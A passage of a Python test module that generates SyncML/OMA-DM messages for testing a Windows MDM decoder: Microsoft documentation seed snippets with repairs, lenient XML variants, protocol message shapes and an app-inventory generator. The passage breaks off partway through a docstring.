"""The SyncML test corpus: real-world message shapes, Microsoft's documented snippets, inputs
that lenient decoders must accept and hostile inputs every decoder must refuse.

Every function is deterministic. Messages are ``(name, bytes)`` pairs; names are unique within
a function and usable as pytest ids.

The seed snippets are extracted from two of Microsoft's documentation pages (seeds 003, Italian,
and 004, Korean), read from ``tests/data/seeds`` in the repository (or
``$MDMGATE_SEED_DIR``). :func:`seed_messages`, :func:`malformed_seed_messages` and
:func:`lenient_messages` raise ``FileNotFoundError`` when
the pages are missing.

Run ``python -m tests.syncml_corpus`` to print the sizes of the big messages.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import itertools
import os
import random
import re
import textwrap
import xml.etree.ElementTree as ET
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

__all__ = [
    "DEVICE_ID",
    "SEED_DIR",
    "SERVER_URL",
    "hostile_inputs",
    "inventory_results",
    "lenient_messages",
    "malformed_seed_messages",
    "response_commands",
    "seed_messages",
    "session_message",
    "shape_messages",
]

Message = tuple[str, bytes]

SYNCML_NS = "SYNCML:SYNCML1.2"
METINF = ' xmlns="syncml:metinf"'
MSFT_NS = "http://schemas.microsoft.com/MobileDevice/MDM"
SERVER_URL = "https://mdm.contoso.com/ManagementServer/MDM.svc"
DEVICE_ID = "5E8C1A7B3D2F4C6E9A0B1C2D3E4F5A6B"

_REPO = Path(__file__).resolve().parents[1]


def _find_seed_dir() -> Path:
    """``$MDMGATE_SEED_DIR``, else the copies kept in ``tests/data/seeds``."""
    if os.environ.get("MDMGATE_SEED_DIR"):
        return Path(os.environ["MDMGATE_SEED_DIR"])
    return _REPO / "tests" / "data" / "seeds"


SEED_DIR = _find_seed_dir()
_SEED_FILES = {"003": "003_39da8e96fc96e26d.txt", "004": "004_3eb66e2f02bf5010.txt"}

_SEED_COMMANDS = ("Get", "Replace", "Exec", "Add", "Delete", "Alert")


# --- small XML writers -------------------------------------------------------------------


def esc(text: str) -> str:
    """Escape text content (not attribute values) for XML."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _leaf(name: str, text: str) -> str:
    return f"<{name}>{esc(text)}</{name}>"


def _loc(name: str, uri: str, loc_name: str | None = None) -> str:
    inner = _leaf("LocURI", uri)
    if loc_name is not None:
        inner += _leaf("LocName", loc_name)
    return f"<{name}>{inner}</{name}>"


def _meta(**fields: str) -> str:
    """``<Meta>`` with syncml:metinf children, in keyword order."""
    inner = "".join(f"<{key}{METINF}>{esc(value)}</{key}>" for key, value in fields.items())
    return f"<Meta>{inner}</Meta>"


def _item(
    *,
    target: str | None = None,
    source: str | None = None,
    meta: dict[str, str] | None = None,
    data: str | None = None,
    raw_data: str | None = None,
    more_data: bool = False,
) -> str:
    """An ``<Item>``; ``data`` is escaped, ``raw_data`` is written as given."""
    parts = ["<Item>"]
    if target is not None:
        parts.append(_loc("Target", target))
    if source is not None:
        parts.append(_loc("Source", source))
    if meta:
        parts.append(_meta(**meta))
    if data is not None:
        parts.append(_leaf("Data", data))
    if raw_data is not None:
        parts.append(raw_data)
    if more_data:
        parts.append("<MoreData/>")
    parts.append("</Item>")
    return "".join(parts)


def _cmd(name: str, cmd_id: int | str, *children: str) -> str:
    return f"<{name}><CmdID>{cmd_id}</CmdID>{''.join(children)}</{name}>"


def _alert(cmd_id: int | str, code: str, *items: str) -> str:
    return _cmd("Alert", cmd_id, _leaf("Data", code), *items)


def _status(
    cmd_id: int | str,
    msg_ref: int | str,
    cmd_ref: int | str,
    cmd: str,
    code: str,
    *,
    target_ref: Sequence[str] = (),
    source_ref: Sequence[str] = (),
    chal: str = "",
    data_attrs: str = "",
) -> str:
    parts = [
        _leaf("MsgRef", str(msg_ref)),
        _leaf("CmdRef", str(cmd_ref)),
        _leaf("Cmd", cmd),
        *(_leaf("TargetRef", ref) for ref in target_ref),
        *(_leaf("SourceRef", ref) for ref in source_ref),
        chal,
        f"<Data{data_attrs}>{esc(code)}</Data>",
    ]
    return _cmd("Status", cmd_id, *parts)


def _hdr_status(cmd_id: int | str, msg_ref: int | str, code: str, *, to_server: bool) -> str:
    """The Status answering a SyncHdr: CmdRef 0, Cmd SyncHdr, refs = the received header."""
    target, source = (DEVICE_ID, SERVER_URL) if to_server else (SERVER_URL, DEVICE_ID)
    return _status(cmd_id, msg_ref, 0, "SyncHdr", code, target_ref=[target], source_ref=[source])


def _message(
    body: Iterable[str],
    *,
    from_device: bool,
    session: str = "1",
    msg_id: str = "1",
    final: bool = True,
    hdr_extra: Sequence[str] = (),
    root_attrs: str = "",
    prolog: str = "",
    sep: str = "",
) -> bytes:
    """A whole message. Windows writes compact XML; servers often a line per command."""
    if from_device:
        target, source = _loc("Target", SERVER_URL), _loc("Source", DEVICE_ID, "dummy")
    else:
        target, source = _loc("Target", DEVICE_ID), _loc("Source", SERVER_URL)
    parts = [
        f'{prolog}<SyncML xmlns="{SYNCML_NS}"{root_attrs}>',
        "<SyncHdr>",
        "<VerDTD>1.2</VerDTD><VerProto>DM/1.2</VerProto>",
        f"<SessionID>{session}</SessionID><MsgID>{msg_id}</MsgID>",
        target,
        source,
        *hdr_extra,
        "</SyncHdr>",
        "<SyncBody>",
        *body,
        *(["<Final/>"] if final else []),
        "</SyncBody>",
        "</SyncML>",
    ]
    return sep.join(parts).encode()


# --- seeds: Microsoft's documented snippets ----------------------------------------------

# A documentation comment line, including the malformed `<!— ...-->` and `<!- ...-->` forms.
_COMMENT_LINE = re.compile(r"^[ \t]*<!(?:--|\u2014|-)[^\n]*-->[ \t]*$", re.M)
_BLOCK = re.compile(
    r"^[ \t]*<(" + "|".join(_SEED_COMMANDS) + r")>.*?</\1>",
    re.S | re.M,
)
_CMD_OPEN = re.compile(r"<(" + "|".join(_SEED_COMMANDS) + r")>(\s*)(?:<CmdID>([^<]*)</CmdID>)?")
_DATA = re.compile(r"<Data>(.*?)</Data>", re.S)


@dataclass(frozen=True)
class _SeedGroup:
    """Consecutive snippets of one code block (only whitespace and comments between them)."""

    name: str
    body: str  # the snippets, comments removed, dedented
    commands: tuple[str, ...]
    comments: str  # the same code block with its well-formed comments kept


@functools.cache
def _seed_groups() -> tuple[_SeedGroup, ...]:
    groups: list[_SeedGroup] = []
    for seed, filename in _SEED_FILES.items():
        text = (SEED_DIR / filename).read_text(encoding="utf-8")
        runs: list[list[re.Match[str]]] = []
        previous_end: int | None = None
        for block in _BLOCK.finditer(text):
            gap = None if previous_end is None else text[previous_end : block.start()]
            if gap is not None and not _COMMENT_LINE.sub("", gap).strip():
                runs[-1].append(block)
            else:
                runs.append([block])
            previous_end = block.end()
        for index, run in enumerate(runs, 1):
            commands = tuple(block[1] for block in run)
            body = "\n".join(textwrap.dedent(block[0]).strip("\n") for block in run)
            lead = re.search(r"(?:^[ \t]*<!--[^\n]*-->[ \t]*\n)+\Z", text[: run[0].start()], re.M)
            span = text[lead.start() if lead else run[0].start() : run[-1].end()]
            # Keep the comments that are real XML comments, for the lenient corpus.
            comments = textwrap.dedent(
                re.sub(r"^[ \t]*<!(?:\u2014|-(?!-))[^\n]*$\n?", "", span, flags=re.M)
            )
            name = f"seed{seed}_{index:02d}_{'_'.join(c.lower() for c in commands)}"
            groups.append(_SeedGroup(name, body, commands, comments))
    return tuple(groups)


def _wrap_seed(body: str, commands: Sequence[str]) -> bytes:
    # Alert 1226 (the only alerts in the seeds) travels device -> server; the rest server -> device.
    from_device = "Alert" in commands
    return _message(
        [body],
        from_device=from_device,
        session="4C" if from_device else "4B",
        msg_id="3" if from_device else "2",
        sep="\n",
    )


def _renumber(body: str) -> str:
    """Give every top-level command a CmdID 1, 2, 3 ..., inserting the missing ones."""
    counter = itertools.count(1)

    def fix(m: re.Match[str]) -> str:
        return f"<{m[1]}>{m[2]}<CmdID>{next(counter)}</CmdID>"

    return _CMD_OPEN.sub(fix, body)


def _cmdids_valid(body: str) -> bool:
    ids = [m[3] for m in _CMD_OPEN.finditer(body)]
    present = [i.strip() for i in ids if i is not None]
    return None not in ids and "0" not in present and len(set(present)) == len(present)


def _fragment_ok(fragment: str) -> bool:
    try:
        ET.fromstring(f"<x>{fragment}</x>")
    except ET.ParseError:
        return False
    return True


def _repair_fragment(fragment: str) -> str:
    """Make the XML a documentation snippet meant to put in ``Data`` well-formed.

    The three faults in the seeds: curly quotes around attribute values, an element written
    self-closed and then closed again (``<Application .../> ... </Application>``) and an element
    never closed (``<License Content="...">``).
    """
    fixed = fragment.strip().replace("\u201d", '"').replace("\u201c", '"')
    name = r"<([\w.-]+)(?![\w.-])"
    fixed = re.sub(name + r"([^<>]*?)\s*/>(?=.*</\1>)", r"<\1\2>", fixed, flags=re.S)
    fixed = re.sub(name + r"((?:[^<>]*[^/<>])?)>(?!.*</\1>)", r"<\1\2/>", fixed, flags=re.S)
    if not _fragment_ok(fixed):
        raise RuntimeError(f"cannot repair seed fragment: {fragment!r}")
    return fixed


def _repair(body: str) -> str:
    """Each ill-formed ``Data`` becomes the repaired XML as escaped text, as a server sends it."""

    def fix(m: re.Match[str]) -> str:
        if _fragment_ok(m[1]):
            return m[0]
        return f"<Data>{esc(_repair_fragment(m[1]))}</Data>"

    return _DATA.sub(fix, body)


def _well_formed(data: bytes) -> bool:
    try:
        ET.fromstring(data)
    except ET.ParseError:
        return False
    return True


def seed_messages() -> list[Message]:
    """Every command snippet of seeds 003 and 004, one message per code block, CmdIDs 1..n.

    Snippets whose XML is broken appear repaired (name ends in ``_repaired``): the intended
    XML, fixed, as escaped ``Data`` text.
    """
    out: list[Message] = []
    for group in _seed_groups():
        raw = _wrap_seed(group.body, group.commands)
        if _well_formed(raw):
            out.append((group.name, _wrap_seed(_renumber(group.body), group.commands)))
        else:
            body = _renumber(_repair(group.body))
            out.append((group.name + "_repaired", _wrap_seed(body, group.commands)))
    return out


def malformed_seed_messages() -> list[Message]:
    """The seed code blocks whose XML is not well-formed, wrapped as written (CmdIDs too)."""
    out: list[Message] = []
    for group in _seed_groups():
        raw = _wrap_seed(group.body, group.commands)
        if not _well_formed(raw):
            out.append((group.name + "_raw", raw))
    return out


# --- lenient inputs ----------------------------------------------------------------------


def lenient_messages() -> list[Message]:
    """Valid-but-sloppy XML a tolerant decoder accepts (and a strict encoder would not write)."""
    out: list[Message] = []
    for group in _seed_groups():
        if _cmdids_valid(group.body):
            continue
        body = group.body
        if not _well_formed(_wrap_seed(body, group.commands)):
            body = _repair(body)
        out.append((group.name + "_cmdid_as_written", _wrap_seed(body, group.commands)))
    # The seed code blocks with their documentation comments kept.
    for group in _seed_groups():
        if "<!--" in group.comments:
            message = _wrap_seed(_repair(group.comments), group.commands)
            if _well_formed(message):
                out.append((group.name + "_with_comments", message))

    policy = "./Vendor/MSFT/Policy/Config/ApplicationManagement/AllowAllTrustedApps"
    replace_plain_meta = (
        "<Replace><CmdID>2</CmdID><Item>"
        f"{_loc('Target', policy)}"
        "<Meta><Format>int</Format><Type>text/plain</Type></Meta>"
        "<Data>1</Data></Item></Replace>"
    )
    out.append(
        (
            "meta_without_metinf_namespace",
            _message([replace_plain_meta], from_device=False, sep="\n"),
        )
    )
    unknown_meta = (
        "<Replace><CmdID>2</CmdID><Item>"
        f"{_loc('Target', './Device/Vendor/MSFT/DMClient/Provider/Contoso/EntDMID')}"
        f"<Meta><Format{METINF}>chr</Format><Type{METINF}>text/plain</Type>"
        f"<x-ContosoTrace{METINF}>7f3a9c</x-ContosoTrace>"
        f"<EMI{METINF}>vendor-a</EMI><EMI{METINF}>vendor-b</EMI>"
        f"<Mark{METINF}/></Meta>"
        "<Data>contoso-device-0042</Data></Item></Replace>"
    )
    out.append(("meta_unknown_and_repeated_children", _message([unknown_meta], from_device=False)))
    prefixed_meta = (
        '<Get><CmdID>2</CmdID><Meta xmlns:m="syncml:metinf"><m:Type>text/plain</m:Type></Meta>'
        f"<Item>{_loc('Target', './DevDetail/SwV')}</Item></Get>"
    )
    out.append(("meta_prefixed_metinf", _message([prefixed_meta], from_device=False)))

    get_swv = _cmd("Get", 2, _item(target="./DevDetail/SwV"))
    doctype = (
        '<!DOCTYPE SyncML PUBLIC "-//SYNCML//DTD SyncML 1.2//EN" '
        '"http://www.openmobilealliance.org/tech/DTD/OMA-TS-SyncML_RepPro_DTD-V1_2.dtd">\n'
    )
    decl = '<?xml version="1.0" encoding="UTF-8"?>\n'
    out.append(("doctype_public", _message([get_swv], from_device=False, prolog=doctype)))
    out.append(("xml_declaration", _message([get_swv], from_device=False, prolog=decl)))
    out.append(
        (
            "xml_declaration_and_doctype",
            _message([get_swv], from_device=False, prolog=decl + doctype, sep="\n"),
        )
    )
    out.append(("utf8_bom", b"\xef\xbb\xbf" + _message([get_swv], from_device=False)))

    commented = (
        b"<!-- before the root -->\n"
        + _message(
            [
                "<!-- server commands follow -->",
                _cmd(
                    "Replace",
                    2,
                    "<!-- one item -->",
                    _item(
                        target="./Device/Vendor/MSFT/Policy/Config/Experience/AllowCortana",
                        meta={"Format": "int"},
                        data="0",
                    ),
                ),
                "<!-- done -->",
            ],
            from_device=False,
            hdr_extra=["<!-- no Meta in this header -->"],
            sep="\n",
        )
        + b"\n<!-- after the root -->"
    )
    out.append(("comments_everywhere", commented))

    hosted = "./User/Vendor/MSFT/EnterpriseModernAppManagement/AppInstallation"
    cdata_exec = (
        "<Exec><CmdID>2</CmdID><Item>"
        f"{_loc('Target', hosted + '/Contoso.App_8wekyb3d8bbwe/HostedInstall')}"
        f"<Meta><Format{METINF}>xml</Format></Meta>"
        '<Data><![CDATA[<Application PackageUri="https://cdn.contoso.com/a.appx?s=1&t=2"/>]]>'
        "</Data></Item></Exec>"
    )
    mixed_cdata = _cmd(
        "Replace",
        3,
        "<Item>",
        _loc("Target", "./Vendor/MSFT/Policy/Config/Browser/HomePages"),
        "<Data>&lt;https://intranet.contoso.com&gt;<![CDATA[<https://a&b.contoso.com>]]></Data>",
        "</Item>",
    )
    out.append(("cdata_data", _message([cdata_exec, mixed_cdata], from_device=False, sep="\n")))

    padded = _message(
        [
            "<Replace>\r\n  <CmdID>\r\n 2 \r\n</CmdID>\r\n  <Item>\r\n    <Target><LocURI>"
            "  ./Vendor/MSFT/Policy/Config/Update/ActiveHoursStart\t</LocURI></Target>\r\n"
            f"    <Meta><Format{METINF}> int </Format></Meta>\r\n"
            "    <Data>\r\n  8 \r\n</Data>\r\n  </Item>\r\n</Replace>"
        ],
        from_device=False,
        sep="\r\n",
    )
    out.append(("crlf_and_padded_leaves", padded))

    no_ns = _message([get_swv], from_device=False).replace(f' xmlns="{SYNCML_NS}"'.encode(), b"")
    out.append(("no_namespace", no_ns))
    lower_ns = _message([get_swv], from_device=False).replace(
        SYNCML_NS.encode(), b"syncml:SYNCML1.2"
    )
    out.append(("lowercase_namespace", lower_ns))
    out.append(
        (
            "flags_not_self_closed",
            _message(
                [
                    "<Replace><CmdID>2</CmdID><NoResp></NoResp>"
                    f"{_item(target='./Vendor/MSFT/DMClient/Unenroll', data='1')}</Replace>",
                    "<Final></Final>",
                ],
                from_device=False,
                final=False,
            ),
        )
    )
    out.append(
        (
            "cmdid_not_numeric",
            _message(
                [_cmd("Get", "a-17", _item(target="./DevDetail/FwV"))],
                from_device=False,
            ),
        )
    )
    return out


# --- message shapes from docs/windows-omadm.md -------------------------------------------

_LOGIN_STATUS = "com.microsoft/MDM/LoginStatus"
_HOSTED_RESULT = "Reversed-Domain-Name:com.microsoft.mdm.EnterpriseHostedAppInstall.result"
_APPINSTALL = "./Device/Vendor/MSFT/EnterpriseModernAppManagement/AppInstallation"
_DEVINFO = [
    ("./DevInfo/DevId", DEVICE_ID),
    ("./DevInfo/Man", "Dell Inc."),
    ("./DevInfo/Mod", "Latitude 7440"),
    ("./DevInfo/DmV", "1.3"),
    ("./DevInfo/Lang", "en-US"),
]
_NONCE = base64.b64encode(b"\x8a\x1f\x03\xd7 nonce for session 4D \x00\xff").decode()


def _md5_digest(user: str, secret: str, nonce_b64: str) -> str:
    """The syncml:auth-md5 credential: b64(MD5(b64(MD5(user:secret)) ":" nonce))."""
    inner = base64.b64encode(hashlib.md5(f"{user}:{secret}".encode()).digest())
    nonce = base64.b64decode(nonce_b64)
    return base64.b64encode(hashlib.md5(inner + b":" + nonce).digest()).decode()


def _device_package1(*, final: bool = True, cmd_start: int = 2) -> bytes:
    ids = itertools.count(cmd_start)
    body = [
        _alert(next(ids), "1201"),
        _alert(
            next(ids),
            "1224",
            _item(meta={"Type": _LOGIN_STATUS}, data="user"),
        ),
        _cmd(
            "Replace",
            next(ids),
            *(_item(source=uri, data=value) for uri, value in _DEVINFO),
        ),
    ]
    return _message(
        body,
        from_device=True,
        final=final,
        hdr_extra=[f"<Meta><MaxMsgSize{METINF}>65535</MaxMsgSize></Meta>"],
    )


def _server_response() -> bytes:
    policy = "./Device/Vendor/MSFT/Policy/Config"
    body = [
        _hdr_status(1, 1, "212", to_server=False),
        _status(2, 1, 2, "Alert", "200"),
        _status(3, 1, 3, "Alert", "200"),
        _status(4, 1, 4, "Replace", "200"),
        _cmd(
            "Get",
            5,
            _item(target="./DevDetail/SwV"),
            _item(target="./DevDetail/Ext/Microsoft/OSPlatform"),
            _item(target="./Vendor/MSFT/NodeCache/Contoso/CacheVersion"),
        ),
        _cmd(
            "Replace",
            6,
            _item(
                target=f"{policy}/Update/ActiveHoursStart",
                meta={"Format": "int", "Type": "text/plain"},
                data="8",
            ),
            _item(
                target=f"{policy}/DeviceLock/MinDevicePasswordLength",
                meta={"Format": "int", "Type": "text/plain"},
                data="12",
            ),
        ),
        _cmd(
            "Exec",
            7,
            _item(
                target="./Device/Vendor/MSFT/EnterpriseModernAppManagement/AppManagement/UpdateScan"
            ),
        ),
        _cmd(
            "Atomic",
            8,
            _cmd(
                "Add",
                9,
                _item(
                    target=f"{_APPINSTALL}/Contoso.Expenses_a1b2c3d4e5f6g",
                    meta={"Format": "node"},
                ),
            ),
            _cmd(
                "Sequence",
                10,
                _cmd(
                    "Replace",
                    11,
                    _item(
                        target=f"{policy}/ApplicationManagement/AllowAllTrustedApps",
                        meta={"Format": "int", "Type": "text/plain"},
                        data="1",
                    ),
                ),
                _cmd(
                    "Exec",
                    12,
                    _item(
                        target=f"{_APPINSTALL}/Contoso.Expenses_a1b2c3d4e5f6g/HostedInstall",
                        meta={"Format": "xml"},
                        data='<Application PackageUri="https://cdn.contoso.com/apps/'
                        'Contoso.Expenses.appx"/>',
                    ),
                ),
            ),
        ),
    ]
    return _message(body, from_device=False, session="1", msg_id="1", sep="\n")


def _client_reply() -> bytes:
    chr_plain = {"Format": "chr", "Type": "text/plain"}
    body = [
        _hdr_status(1, 1, "200", to_server=True),
        _status(2, 1, 5, "Get", "200"),
        _cmd(
            "Results",
            3,
            _leaf("MsgRef", "1"),
            _leaf("CmdRef", "5"),
            _item(source="./DevDetail/SwV", meta=chr_plain, data="10.0.22631.3447"),
            _item(
                source="./DevDetail/Ext/Microsoft/OSPlatform",
                meta=chr_plain,
                data="Windows 11 Enterprise",
            ),
            _item(
                source="./Vendor/MSFT/NodeCache/Contoso/CacheVersion",
                meta={"Format": "int", "Type": "text/plain"},
                data="17",
            ),
        ),
        _status(4, 1, 6, "Replace", "200"),
        _status(5, 1, 7, "Exec", "202"),
        _status(6, 1, 8, "Atomic", "200"),
        _status(7, 1, 9, "Add", "200"),
        _status(8, 1, 10, "Sequence", "200"),
        _status(9, 1, 11, "Replace", "200"),
        _status(10, 1, 12, "Exec", "202"),
    ]
    return _message(body, from_device=True, session="1", msg_id="2")


def _lo_data() -> str:
    rng = random.Random(213)
    blob = bytes(rng.randrange(256) for _ in range(3000))
    return base64.b64encode(blob).decode()


def _large_object_messages() -> list[Message]:
    target = (
        "./Device/Vendor/MSFT/RootCATrustedCertificates/Root/"
        "3B1EFD3A66EA28B16697394703A72CA340A05BD5/EncodedCertificate"
    )
    data = _lo_data()
    chunks = [data[:1600], data[1600:3200], data[3200:]]
    meta_first = {"Format": "b64", "Type": "text/plain", "Size": str(len(data))}
    out: list[Message] = []
    for number, chunk in enumerate(chunks):
        last = number == len(chunks) - 1
        item = _item(
            target=target,
            meta=meta_first if number == 0 else {"Format": "b64", "Type": "text/plain"},
            data=chunk,
            more_data=not last,
        )
        body = [] if number == 0 else [_hdr_status(1, number + 1, "200", to_server=False)]
        body.append(_cmd("Replace", len(body) + 1, item))
        out.append(
            (
                f"large_object_chunk{number + 1}",
                _message(body, from_device=False, session="6", msg_id=str(number + 2), final=last),
            )
        )
    device_213 = _message(
        [
            _hdr_status(1, 2, "200", to_server=True),
            _status(2, 2, 1, "Replace", "213"),
            _alert(3, "1222"),
        ],
        from_device=True,
        session="6",
        msg_id="2",
        final=False,
    )
    out.append(("large_object_status_213", device_213))
    return out


def shape_messages() -> list[Message]:
    """The message shapes of windows-omadm.md, written as Windows and a server write them."""
    out: list[Message] = [
        ("device_package1", _device_package1()),
        ("server_response", _server_response()),
        ("client_reply", _client_reply()),
    ]
    chal = "<Chal>" + _meta(Type="syncml:auth-md5", Format="b64", NextNonce=_NONCE) + "</Chal>"
    out.append(
        (
            "status_401_chal",
            _message(
                [
                    _status(
                        1,
                        1,
                        0,
                        "SyncHdr",
                        "401",
                        target_ref=[SERVER_URL],
                        source_ref=[DEVICE_ID],
                        chal=chal,
                    )
                ],
                from_device=False,
                session="4D",
            ),
        )
    )
    cred = (
        "<Cred>"
        + _meta(Format="b64", Type="syncml:auth-md5")
        + _leaf("Data", _md5_digest(DEVICE_ID, "s3cr3t-enrolment-secret", _NONCE))
        + "</Cred>"
    )
    out.append(
        (
            "header_cred_md5",
            _message(
                [_alert(2, "1201")],
                from_device=True,
                session="4D",
                msg_id="2",
                hdr_extra=[cred, f"<Meta><MaxMsgSize{METINF}>65535</MaxMsgSize></Meta>"],
            ),
        )
    )
    out.append(("no_final", _device_package1(final=False)))
    out.append(
        (
            "alert_1222",
            _message(
                [
                    _hdr_status(1, 1, "200", to_server=False),
                    _status(2, 1, 2, "Alert", "200"),
                    _alert(
                        3,
                        "1222",
                        f"<Item>{_loc('Target', DEVICE_ID)}{_loc('Source', SERVER_URL)}</Item>",
                    ),
                ],
                from_device=False,
                sep="\n",
            ),
        )
    )
    out.append(
        (
            "alert_1223",
            _message(
                [_hdr_status(1, 2, "200", to_server=True), _alert(2, "1223")],
                from_device=True,
                msg_id="3",
            ),
        )
    )
    out.append(
        (
            "alert_1226_hosted_install",
            _message(
                [
                    _alert(2, "1201"),
                    _alert(
                        3,
                        "1226",
                        _item(
                            source=f"{_APPINSTALL}/Contoso.Expenses_a1b2c3d4e5f6g/HostedInstall",
                            meta={"Type": _HOSTED_RESULT, "Format": "int"},
                            data="-2147024894",
                        ),
                    ),
                ],
                from_device=True,
                session="7",
            ),
        )
    )
    out.append(
        (
            "status_msft_originalerror",
            _message(
                [
                    _hdr_status(1, 2, "200", to_server=True),
                    _status(
                        2,
                        2,
                        3,
                        "Replace",
                        "500",
                        data_attrs=' msft:originalerror="0x80070057"',
                    ),
                    _status(3, 2, 4, "Get", "404", data_attrs=' msft:originalerror="0x86000002"'),
                    _status(4, 2, 5, "Delete", "200"),
                ],
                from_device=True,
                msg_id="3",
                root_attrs=f' xmlns:msft="{MSFT_NS}"',
            ),
        )
    )
    out.append(
        (
            "status_data_attrs_mixed",
            _message(
                [
                    _status(
                        2,
                        2,
                        3,
                        "Exec",
                        "500",
                        data_attrs=f' xmlns:m="{MSFT_NS}" xmlns:d="urn:example:diag"'
                        ' m:originalerror="0x87D1FDE8" d:trace="ab12" hint="retry later"',
                    ),
                ],
                from_device=True,
                msg_id="3",
            ),
        )
    )
    out.extend(_large_object_messages())
    out.append(
        (
            "results_target_source_refs",
            _message(
                [
                    _hdr_status(1, 2, "200", to_server=True),
                    _status(2, 2, 4, "Get", "200"),
                    _cmd(
                        "Results",
                        3,
                        _leaf("MsgRef", "2"),
                        _leaf("CmdRef", "4"),
                        _meta(Format="chr", Type="text/plain"),
                        _leaf("TargetRef", SERVER_URL),
                        _leaf("SourceRef", "./DevDetail/SwV"),
                        _leaf("SourceRef", "./DevDetail/FwV"),
                        _item(source="./DevDetail/SwV", data="10.0.26100.1742"),
                        _item(source="./DevDetail/FwV", data="1.21.0"),
                    ),
                ],
                from_device=True,
                msg_id="3",
            ),
        )
    )
    map_cmd = _cmd(
        "Map",
        4,
        _loc("Target", "./Contacts"),
        _loc("Source", "./dev/contacts"),
        *(
            f"<MapItem>{_loc('Target', str(1000 + n))}{_loc('Source', str(n))}</MapItem>"
            for n in (7, 8, 12)
        ),
    )
    out.append(("map_mapitems", _message([map_cmd], from_device=True, msg_id="4")))
    out.append(
        (
            "exec_correlator",
            _message(
                [
                    _cmd(
                        "Exec",
                        2,
                        _leaf("Correlator", "c0ffee42-1a2b-4c3d-8e9f-0123456789ab"),
                        _item(
                            target="./Device/Vendor/MSFT/RemoteWipe/doWipeProtected",
                            meta={"Format": "chr", "Type": "text/plain"},
                            data="",
                        ),
                    )
                ],
                from_device=False,
                sep="\n",
            ),
        )
    )
    app_xml = '<Application PackageUri="https://x/a.appx?x=1&amp;y=2"/>'
    out.append(
        (
            "escaped_xml_data",
            _message(
                [
                    _cmd(
                        "Exec",
                        2,
                        _item(
                            target=f"{_APPINSTALL}/Contoso.App_8wekyb3d8bbwe/HostedInstall",
                            meta={"Format": "xml"},
                            data=app_xml,  # escaped once on the wire: &amp;amp;
                        ),
                    )
                ],
                from_device=False,
                sep="\n",
            ),
        )
    )
    out.append(
        (
            "escaped_xml_data_single_amp",
            _message(
                [
                    _cmd(
                        "Exec",
                        2,
                        _item(
                            target=f"{_APPINSTALL}/Contoso.App_8wekyb3d8bbwe/HostedInstall",
                            meta={"Format": "xml"},
                            raw_data='<Data>&lt;Application PackageUri="https://x/a.appx?x=1'
                            '&amp;y=2"/&gt;</Data>',
                        ),
                    )
                ],
                from_device=False,
                sep="\n",
            ),
        )
    )
    unicode_results = _cmd(
        "Results",
        3,
        _leaf("MsgRef", "2"),
        _leaf("CmdRef", "5"),
        _item(
            source="./DevDetail/Ext/Microsoft/DeviceName",
            meta={"Format": "chr", "Type": "text/plain"},
            data="Ноутбук-Ирины",
        ),
        _item(
            source="./Vendor/MSFT/Policy/Config/Start/StartMenuTitle",
            data="Ciao, è già — 日本語 한국어 🚀",
        ),
        "<Item><Source><LocURI>./Vendor/MSFT/Personalization/LockScreenText%20%C3%A9</LocURI>"
        "<LocName>écran</LocName></Source><Data>caf&#xE9; &#x1F680; &#233;t&#xE9;</Data></Item>",
    )
    out.append(
        (
            "unicode_text",
            _message(
                [_hdr_status(1, 2, "200", to_server=True), unicode_results],
                from_device=True,
                msg_id="3",
            ),
        )
    )
    out.append(
        (
            "noresp",
            _message(
                [
                    _cmd(
                        "Replace",
                        2,
                        "<NoResp/>",
                        _item(
                            target="./Vendor/MSFT/DMClient/Provider/Contoso/Push/PFN",
                            meta={"Format": "chr"},
                            data="Contoso.Push_8wekyb3d8bbwe",
                        ),
                    ),
                    _alert(3, "1223"),
                ],
                from_device=False,
                hdr_extra=["<NoResp/>"],
                sep="\n",
            ),
        )
    )
    out.append(
        (
            "empty_elements",
            _message(
                [
                    _cmd(
                        "Replace",
                        2,
                        "<Item><Target><LocURI>./Vendor/MSFT/Policy/Config/Browser/HomePages"
                        "</LocURI><LocName></LocName></Target>"
                        f"<Meta><Format{METINF}>chr</Format><Type{METINF}></Type></Meta>"
                        "<Data/></Item>",
                    )
                ],
                from_device=False,
            ),
        )
    )
    return out


# --- the ?list=StructData inventory ------------------------------------------------------

_WORDS = (
    "Alarm",
    "Atlas",
    "Beacon",
    "Bolt",
    "Bridge",
    "Calc",
    "Canvas",
    "Clip",
    "Cloud",
    "Code",
    "Comet",
    "Compass",
    "Core",
    "Cortex",
    "Dash",
    "Delta",
    "Draw",
    "Echo",
    "Edge",
    "Feed",
    "Film",
    "Flow",
    "Focus",
    "Forge",
    "Frame",
    "Fuse",
    "Glyph",
    "Grid",
    "Harbor",
    "Hub",
    "Ink",
    "Jet",
    "Key",
    "Lens",
    "Link",
    "Loop",
    "Map",
    "Mesh",
    "Mint",
    "Nova",
    "Note",
    "Orbit",
    "Paint",
    "Pass",
    "Photo",
    "Pilot",
    "Pixel",
    "Pulse",
    "Quest",
    "Radar",
    "Relay",
    "Scan",
    "Scribe",
    "Shell",
    "Sketch",
    "Snap",
    "Spark",
    "Sync",
    "Tally",
    "Task",
    "Terra",
    "Tile",
    "Trail",
    "Vault",
    "Vector",
    "View",
    "Voice",
    "Wave",
    "Widget",
    "Zen",
)
_VENDORS = ("Microsoft", "Contoso", "Fabrikam", "Northwind", "Litware", "AdventureWorks")
_ARCH = (("x64", "9"), ("x86", "0"), ("neutral", "11"), ("arm64", "12"))
_CATEGORIES = ("AppStore", "nonStore", "System")
_APP_LEAVES = (
    "Name",
    "Version",
    "Publisher",
    "Architecture",
    "InstallLocation",
    "IsFramework",
    "IsBundle",
    "InstallDate",
    "ResourceID",
    "RequiresReinstall",
    "PackageStatus",
    "Users",
    "IsProvisioned",
    "IsStub",
)
_INT_LEAVES = frozenset(
    {
        "Architecture",
        "IsFramework",
        "IsBundle",
        "RequiresReinstall",
        "PackageStatus",
        "IsProvisioned",
        "IsStub",
    }
)


def _publisher_hash(rng: random.Random) -> str:
    return "".join(rng.choice("abcdefghjkmnpqrstvwxyz0123456789") for _ in range(13))


def inventory_results(apps: int = 300) -> bytes:
    """What Windows answers to a Get of
    ``./Device/Vendor/MSFT/EnterpriseModernAppManagement/AppManagement?list=StructData``.

    One Item per node, interior nodes with Format ``node`` and no Data, leaves with Format
    ``chr``/``int`` and Type ``text/plain``; for each app a PackageFamilyName node, a
    PackageFullName node and its 14 leaves, spread over AppStore / nonStore / System.

